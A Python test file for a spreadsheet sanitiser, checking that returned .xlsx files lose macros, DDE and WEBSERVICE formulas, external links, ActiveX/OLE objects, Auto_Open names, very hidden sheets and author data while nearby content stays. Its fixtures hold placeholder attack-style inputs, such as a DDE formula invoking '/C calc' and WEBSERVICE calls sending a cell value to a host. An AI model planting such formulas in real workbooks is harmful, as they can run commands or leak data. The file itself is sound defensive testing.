"""What never goes out with a returned file: each thing of the closed list, with the neighbour that stays."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
import schemacheck
from givenback import OURS, THEIRS, give_back, parcel
from parcels import BOOK, MAIN, TYPES, Parcel, parts_of, sheet_xml
from python_calamine import CalamineWorkbook

from xltools.catalogue.template import ROSTER_SHEET, VERSION_SHEET
from xltools.sheets.returned.heldback import listed

BOOK_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_TYPE = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
DRAWING = "application/vnd.openxmlformats-officedocument.drawing+xml"
MICROSOFT = "http://schemas.microsoft.com/office/"
X = b"SECRET"  # what must not go out
K = b"KEPT"  # what stays


def vba(p: Parcel) -> None:
    p.put(TYPES, BOOK_TYPE, MACRO_TYPE)
    project = p.add("xl/vbaProject.bin", X, "application/vnd.ms-office.vbaProject")
    p.relate(BOOK, f"{MICROSOFT}2006/relationships/vbaProject", project)
    p.relate(
        project,
        f"{MICROSOFT}2006/relationships/vbaProjectSignature",
        p.add("xl/vbaProjectSignature.bin", X, "application/x"),
    )
    p.add("xl/ctrlProps/ctrlProp1.xml", b'<formControlPr objectType="Button" note="KEPT"/>', "application/x+xml")


def orphaned_vba(p: Parcel) -> None:
    p.add("xl/vbaProject.bin", X, "application/vnd.ms-office.vbaProject")
    p.add("xl/media/vbaProject.bin", K, "application/x")


def ribbon(p: Parcel) -> None:
    p.relate(
        "",
        f"{MICROSOFT}2007/relationships/ui/extensibility",
        p.add("customUI/customUI14.xml", b'<customUI onLoad="SECRET"/>', "application/xml"),
    )
    p.relate("", "label", p.add("docMetadata/LabelInfo.xml", b"<a>KEPT</a>", "application/x+xml"))


def macro_sheet(p: Parcel) -> None:
    member = p.add(
        "xl/macrosheets/sheet1.xml",
        sheet_xml(b'<row r="1"><c r="A1"><f>EXEC("SECRET")</f></c></row>'),
        "application/vnd.ms-excel.macrosheet+xml",
    )
    id_ = p.relate(BOOK, f"{MICROSOFT}2006/relationships/xlMacrosheet", member)
    p.put(BOOK, b"</sheets>", f'<sheet name="SECRETSHEET" sheetId="77" r:id="{id_}"/></sheets>'.encode())
    p.sheet("KEPT", "xl/worksheets/sheet7.xml", sheet_xml())


def external_link(p: Parcel) -> None:
    xml = b'<externalLink xmlns="%s" xmlns:r="urn:r"><externalBook r:id="rId1"/></externalLink>' % MAIN
    part = p.add(
        "xl/externalLinks/externalLink1.xml",
        xml,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
    )
    p.relate(part, "externalLinkPath", "file:///C:/SECRET.xlsx", outside=True)
    id_ = p.relate(BOOK, "externalLink", part)
    p.put(
        BOOK,
        b"</sheets>",
        f'</sheets><externalReferences><externalReference r:id="{id_}"/></externalReferences>'.encode(),
    )
    p.cell(OURS, "AJ5", b"<f>[1]SECRET!A1*2</f><v>42</v>")
    p.cell(OURS, "AJ6", b"<f>KEPT[1]+KEPT2</f><v>43</v>".replace(b"KEPT[1]+", b""))
    p.name("别处", "[1]SECRET!$A$1")
    p.name("KEPT2", "1")


def connections(p: Parcel) -> None:
    xml = b'<connections xmlns="%s"><connection id="1" name="SECRET"/></connections>' % MAIN
    p.relate(BOOK, "connections", p.add("xl/connections.xml", xml, "application/x+xml"))
    table = (
        b'<table xmlns="%s" id="1" name="KEPT" displayName="KEPT" ref="A1:A2" tableType="queryTable"><tableColumns count="1"><tableColumn id="1" name="a" queryTableFieldId="1"/></tableColumns></table>'
        % MAIN
    )
    part = p.add("xl/tables/table1.xml", table, "application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml")
    p.relate(THEIRS, "table", part)
    p.relate(
        part, "queryTable", p.add("xl/queryTables/queryTable1.xml", b'<queryTable name="SECRET"/>', "application/x+xml")
    )
    cache = (
        b'<pivotCacheDefinition xmlns="%s" refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>'
        % MAIN
    )
    p.relate(BOOK, "pivotCacheDefinition", p.add("xl/pivotCache/pivotCacheDefinition1.xml", cache, "application/x+xml"))


def mashup(p: Parcel) -> None:
    query = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">SECRET</DataMashup>'.encode("utf-16")
    p.relate(BOOK, "customXml", p.add("customXml/item1.xml", query, "application/xml"))
    p.relate(BOOK, "customXml", p.add("customXml/item2.xml", b"<a>KEPT</a>", "application/xml"))


def linked_picture(p: Parcel) -> None:
    drawing = p.add(
        "xl/drawings/drawing1.xml",
        b'<xdr:wsDr xmlns:xdr="urn:x" xmlns:r="urn:r"><a r:link="rId900" r:embed="rId901" n="KEPT"/></xdr:wsDr>',
        DRAWING,
    )
    p.relate(drawing, "image", "\\\\SECRET\\a.png", outside=True)
    p.relate(drawing, "image", p.add("xl/media/image1.png", b"KEPT", "image/png"))
    p.at_end(THEIRS, f'<drawing r:id="{p.relate(THEIRS, "drawing", drawing)}"/>'.encode())
    p.relate(THEIRS, "hyperlink", "https://KEPT.example.org", outside=True)


def macro_elsewhere(p: Parcel) -> None:
    xml = (
        b'<xdr:wsDr xmlns:xdr="urn:x"><xdr:sp macro="[0]!KEPT"/><xdr:sp macro="\'\\\\SECRET\\a.xlsm\'!run"/></xdr:wsDr>'
    )
    drawing = p.add("xl/drawings/drawing1.xml", xml, DRAWING)
    p.at_end(THEIRS, f'<drawing r:id="{p.relate(THEIRS, "drawing", drawing)}"/>'.encode())


def ole(p: Parcel) -> None:
    id_ = p.relate(
        THEIRS,
        "oleObject",
        p.add("xl/embeddings/oleObject1.bin", X, "application/vnd.openxmlformats-officedocument.oleObject"),
    )
    shapes = b'<xml xmlns:v="urn:v" xmlns:o="urn:o"><v:shape id="_x0000_s1025" alt="SECRET"></v:shape><v:shape id="_x0000_s1026" alt="KEPT"></v:shape></xml>'
    vml = p.relate(
        THEIRS,
        "vmlDrawing",
        p.add("xl/drawings/vmlDrawing1.vml", shapes, "application/vnd.openxmlformats-officedocument.vmlDrawing"),
    )
    drawing = (
        b'<xdr:wsDr xmlns:xdr="urn:x" xmlns:mc="urn:mc"><mc:AlternateContent><mc:Choice Requires="a14"><xdr:twoCellAnchor>'
        b'<a spid="_x0000_s1025" n="SECRET"/></xdr:twoCellAnchor></mc:Choice></mc:AlternateContent><xdr:twoCellAnchor><b n="KEPT"/>'
        b"</xdr:twoCellAnchor></xdr:wsDr>"
    )
    own = p.relate(THEIRS, "drawing", p.add("xl/drawings/drawing1.xml", drawing, DRAWING))
    p.at_end(THEIRS, (
        f'<drawing r:id="{own}"/><legacyDrawing r:id="{vml}"/><oleObjects><mc:AlternateContent xmlns:mc="urn:mc"><mc:Choice '
        f'Requires="x14"><oleObject progId="SECRET" shapeId="1025" r:id="{id_}"><objectPr/></oleObject></mc:Choice><mc:Fallback>'
        f'<oleObject progId="SECRET" shapeId="1025" r:id="{id_}"/></mc:Fallback></mc:AlternateContent></oleObjects>'
    ).encode())  # fmt: skip


def active_x(p: Parcel) -> None:
    control = p.add(
        "xl/activeX/activeX1.xml",
        b'<ax:ocx xmlns:ax="urn:a" ax:classid="SECRET"/>',
        "application/vnd.ms-office.activeX+xml",
    )
    p.relate(
        control,
        f"{MICROSOFT}2006/relationships/activeXControlBinary",
        p.add("xl/activeX/activeX1.bin", X, "application/vnd.ms-office.activeX"),
    )
    bad = p.relate(THEIRS, "control", control)
    good = p.relate(
        THEIRS,
        "ctrlProp",
        p.add(
            "xl/ctrlProps/ctrlProp1.xml", b'<formControlPr n="KEPT"/>', "application/vnd.ms-excel.controlproperties+xml"
        ),
    )
    p.at_end(THEIRS, (
        '<mc:AlternateContent xmlns:mc="urn:mc"><mc:Choice Requires="x14"><controls>'
        f'<mc:AlternateContent><mc:Choice Requires="x14"><control shapeId="1025" r:id="{bad}" name="SECRET"/></mc:Choice></mc:AlternateContent>'
        f'<mc:AlternateContent><mc:Choice Requires="x14"><control shapeId="1026" r:id="{good}" name="KEPT"/></mc:Choice></mc:AlternateContent>'
        "</controls></mc:Choice></mc:AlternateContent>"
    ).encode())  # fmt: skip


def dde(p: Parcel) -> None:
    p.cell(OURS, "AJ5", b"<f>SECRET|' /C calc'!A0</f><v>42</v>")
    p.cell(OURS, "AJ6", b"<f>LEN(\"KEPT|\")+'KEPT|KEPT'!A1</f><v>43</v>")
    p.sheet("KEPT|KEPT", "xl/worksheets/sheet7.xml", sheet_xml())


def webservice(p: Parcel) -> None:
    p.cell(OURS, "AJ5", b'<f>_xlfn.WEBSERVICE("http://SECRET/"&amp;B5)</f><v>42</v>', b' t="str"')
    p.cell(OURS, "AJ6", b'<f>LEN("WEBSERVICE(KEPT)")</f><v>43</v>')


def shared_webservice(p: Parcel) -> None:
    p.cell(OURS, "AJ5", b'<f t="shared" ref="AJ5:AJ6" si="7">_xlfn.WEBSERVICE("http://SECRET/"&amp;B5)</f><v>42</v>')
    p.cell(OURS, "AJ6", b'<f t="shared" si="7"/><v>43</v>')
    p.cell(OURS, "AK5", b'<f t="shared" ref="AK5:AK6" si="8">LEN(B5)+KEPT</f><v>43</v>')
    p.cell(OURS, "AK6", b'<f t="shared" si="8"/><v>43</v>')


def calculated_elsewhere(p: Parcel) -> None:
    p.relate(
        BOOK,
        "volatileDependencies",
        p.add("xl/volatileDependencies.xml", b'<volTypes n="SECRET"/>', "application/x+xml"),
    )
    p.cell(OURS, "AJ5", b'<f>RTD("SECRET","","a")</f><v>42</v>')
    p.cell(OURS, "AJ6", b"<f>MYRTD(KEPT)</f><v>43</v>")
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml"
    p.relate(
        BOOK,
        "calcChain",
        p.add("xl/calcChain.xml", b'<calcChain xmlns="%s"><c r="AJ5" n="SECRET"/></calcChain>' % MAIN, kind),
    )


def rules_elsewhere(p: Parcel) -> None:
    rule = b'<conditionalFormatting sqref="%s"><cfRule type="expression" priority="%d"><formula>%s</formula></cfRule></conditionalFormatting>'
    bad = rule % (b"A5", 7, b'_xlfn.WEBSERVICE("SECRET")=1')
    p.put(OURS, b"<pageMargins", bad + rule % (b"A6", 8, b'A6="KEPT"') + b"<pageMargins")


def auto_open(p: Parcel) -> None:
    p.name("Auto_Open", "SECRET!$A$1")
    p.name("_xlnm.Auto_Close", "SECRET!$A$1")
    p.name("KEPT", "参考!$A$1")


def unc_name(p: Parcel) -> None:
    p.name("位置", "'\\\\SECRET\\share\\[a.xlsx]Sheet1'!$A$1")
    p.name("KEPT", "参考!$A$1")
    p.cell(OURS, "AJ5", b"<f>\xe4\xbd\x8d\xe7\xbd\xae+1</f><v>42</v>")
    p.cell(OURS, "AJ6", b"<f>KEPT+1</f><v>43</v>")


def very_hidden(p: Parcel) -> None:
    p.sheet(
        "SECRETSHEET",
        "xl/worksheets/sheet7.xml",
        sheet_xml(b'<row r="1"><c r="A1" t="inlineStr"><is><t>SECRET</t></is></c></row>'),
        "veryHidden",
    )
    p.sheet("KEPT", "xl/worksheets/sheet8.xml", sheet_xml(), "hidden")
    p.name("_xlnm.Print_Area", "SECRETSHEET!$A$1", ' localSheetId="2"')
    p.name("_xlnm.Print_Area", "KEPT!$A$1", ' localSheetId="3"')
    p.cell(OURS, "AJ5", b"<f>SECRETSHEET!A1</f><v>42</v>")
    p.cell(OURS, "AJ6", b"<f>KEPT!A1</f><v>43</v>")


def people(p: Parcel) -> None:
    xml = b'<personList xmlns="urn:t"><person displayName="SECRET" id="{0A}" userId="SECRET"/><person displayName="KEPT" id="{0B}"/></personList>'
    p.relate(
        BOOK,
        f"{MICROSOFT}2017/10/relationships/person",
        p.add("xl/persons/person.xml", xml, "application/vnd.ms-excel.person+xml"),
    )
    said = b'<ThreadedComments xmlns="urn:t"><threadedComment ref="A1" personId="{0b}" id="{1}"/></ThreadedComments>'
    part = p.add("xl/threadedComments/threadedComment1.xml", said, "application/vnd.ms-excel.threadedcomments+xml")
    p.relate(THEIRS, f"{MICROSOFT}2017/10/relationships/threadedComment", part)


def authors(p: Parcel) -> None:
    xml = (
        b'<comments xmlns="%s"><authors><author>SECRET</author><author>KEPT</author></authors><commentList><comment ref="A1" authorId="1"><text><t>x</t></text></comment></commentList></comments>'
        % MAIN
    )
    p.relate(
        THEIRS,
        "comments",
        p.add("xl/comments7.xml", xml, "application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml"),
    )


def shared_users(p: Parcel) -> None:
    p.relate(
        BOOK,
        "usernames",
        p.add("xl/revisions/userNames.xml", b'<users><userInfo name="SECRET"/></users>', "application/x+xml"),
    )
    p.parts["docProps/core.xml"] = p.parts["docProps/core.xml"].replace(
        b"<dc:creator></dc:creator>", b"<dc:creator>KEPT</dc:creator>"
    )


def signature(p: Parcel) -> None:
    origin = p.add("_xmlsignatures/origin.sigs", b"", "application/vnd.openxmlformats-package.digital-signature-origin")
    base = "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/"
    p.relate("", f"{base}origin", origin)
    p.relate(
        origin,
        f"{base}signature",
        p.add("_xmlsignatures/sig1.xml", b"<Signature>SECRET</Signature>", "application/x+xml"),
    )
    p.relate("", "label", p.add("docMetadata/LabelInfo.xml", b"<a>KEPT</a>", "application/x+xml"))


@dataclass(frozen=True)
class Case:
    make: Callable[[Parcel], None]
    counts: dict[str, int]
    """What is told: key of the list -> how many."""


CASES = {
    "macros, and their signature": Case(vba, {"vba": 2}),
    "macros that nothing leads to": Case(orphaned_vba, {"vba": 1}),
    "a ribbon that calls macros": Case(ribbon, {"vba": 1}),
    "a sheet of Excel 4 macros": Case(macro_sheet, {"vba": 1}),
    "another workbook, and formulas over it": Case(external_link, {"links": 2, "formulas": 1, "names": 1}),
    "connections and the queries of a table": Case(connections, {"links": 2}),
    "the queries of Power Query": Case(mashup, {"links": 1}),
    "a picture that lies elsewhere": Case(linked_picture, {"links": 1}),
    "a button that calls another file": Case(macro_elsewhere, {"links": 1}),
    "an embedded object": Case(ole, {"objects": 1}),
    "an ActiveX control": Case(active_x, {"objects": 2}),
    "a DDE formula": Case(dde, {"formulas": 1}),
    "WEBSERVICE": Case(webservice, {"formulas": 1}),
    "WEBSERVICE in a shared formula": Case(shared_webservice, {"formulas": 2}),
    "RTD, and the order of calculation": Case(calculated_elsewhere, {"formulas": 2}),
    "WEBSERVICE in a colour rule": Case(rules_elsewhere, {"formulas": 1}),
    "names that run something": Case(auto_open, {"names": 2}),
    "a name for a server's share": Case(unc_name, {"names": 1, "formulas": 1}),
    "a very hidden sheet": Case(very_hidden, {"hidden": 1, "formulas": 1}),
    "people who said nothing": Case(people, {"people": 1}),
    "authors of no note": Case(authors, {"people": 1}),
    "users of a shared workbook": Case(shared_users, {"people": 1}),
    "a digital signature": Case(signature, {"signatures": 2}),
}  # fmt: skip


@pytest.mark.parametrize("what", CASES)
def test_this_does_not_go_out_and_its_neighbour_stays(tmp_path: Path, what: str) -> None:
    case, made = CASES[what], parcel(tmp_path)
    case.make(made)
    path, target = made.write(tmp_path / "a.xlsx"), tmp_path / "b.xlsx"
    before = path.read_bytes()
    assert any(X in data or X.decode() in name for name, data in made.parts.items()) or what.startswith("the queries")
    back = give_back(path, target, tmp_path / "plain.xlsx")
    assert path.read_bytes() == before
    assert back.how == "marked"
    assert {h.key: h.count for h in back.held_back} == case.counts
    after = parts_of(target)
    assert {
        name for name, data in after.items() if X in data or X in name.encode() or X in data.replace(b"\0", b"")
    } == set()
    assert K in b"".join(after.values()) or K in "".join(after).encode()
    assert [n for n in after if "vba" in n.lower() and "media" not in n] == []
    assert MACRO_TYPE not in after[TYPES]
    named = re.findall(rb'PartName="/([^"]+)"', after[TYPES])
    assert {n.decode() for n in named} <= after.keys()
    told = openpyxl.load_workbook(target)["问题"]["A2"].value
    for key in case.counts:
        assert listed()[key]["what"] in told
    assert schemacheck.kinds(target) <= schemacheck.kinds(path)


@pytest.mark.parametrize(
    "what",
    [
        "a DDE formula",
        "WEBSERVICE",
        "another workbook, and formulas over it",
        "a very hidden sheet",
        "a name for a server's share",
    ],
)
def test_the_value_of_a_formula_stays_and_its_neighbours_formula_too(tmp_path: Path, what: str) -> None:
    made = parcel(tmp_path)
    CASES[what].make(made)
    target = tmp_path / "b.xlsx"
    give_back(made.write(tmp_path / "a.xlsx"), target)
    sheet = parts_of(target)[OURS]
    there, neighbour = (re.search(rb'<c r="%s"[^>]*>(.*?)</c>' % at, sheet)[1] for at in (b"AJ5", b"AJ6"))  # type: ignore[index]
    assert there == b"<v>42</v>"
    assert neighbour.startswith(b"<f>")
    assert neighbour.endswith(b"</f><v>43</v>")


def test_sheets_move_up_where_one_is_gone_and_what_counts_them_follows(tmp_path: Path) -> None:
    made = parcel(tmp_path)
    very_hidden(made)
    target = tmp_path / "b.xlsx"
    give_back(made.write(tmp_path / "a.xlsx"), target)
    assert CalamineWorkbook.from_path(str(target)).sheet_names == [ROSTER_SHEET, "问题", "参考", "KEPT", VERSION_SHEET]
    areas = re.findall(rb'name="_xlnm.Print_Area" localSheetId="(\d+)">([^<]*)<', parts_of(target)[BOOK])
    assert dict(areas)[b"3"] == b"KEPT!$A$1"
    assert b"TitlesOfParts" not in parts_of(target)["docProps/app.xml"]


def test_our_own_sheets_go_out_however_hidden_they_are(tmp_path: Path) -> None:
    made = parcel(tmp_path)
    made.sheet("选项", "xl/worksheets/sheet7.xml", sheet_xml(b'<row r="1"><c r="A1"><v>1</v></c></row>'), "veryHidden")
    path, target = made.write(tmp_path / "a.xlsx"), tmp_path / "b.xlsx"
    assert give_back(path, target).held_back == ()
    assert parts_of(target)["xl/worksheets/sheet7.xml"] == parts_of(path)["xl/worksheets/sheet7.xml"]


def test_every_entry_of_the_list_has_a_case() -> None:
    assert {key for case in CASES.values() for key in case.counts} == set(listed())


def test_a_plain_file_has_nothing_held_back(tmp_path: Path) -> None:
    path, target = parcel(tmp_path).write(tmp_path / "a.xlsx"), tmp_path / "b.xlsx"
    assert give_back(path, target).held_back == ()
    assert "去掉" not in openpyxl.load_workbook(target)["问题"]["A2"].value


def test_theirs_is_not_touched_where_nothing_of_the_list_is_in_it(tmp_path: Path) -> None:
    made = parcel(tmp_path)
    webservice(made)
    path, target = made.write(tmp_path / "a.xlsx"), tmp_path / "b.xlsx"
    give_back(path, target)
    assert parts_of(target)[THEIRS] == parts_of(path)[THEIRS]
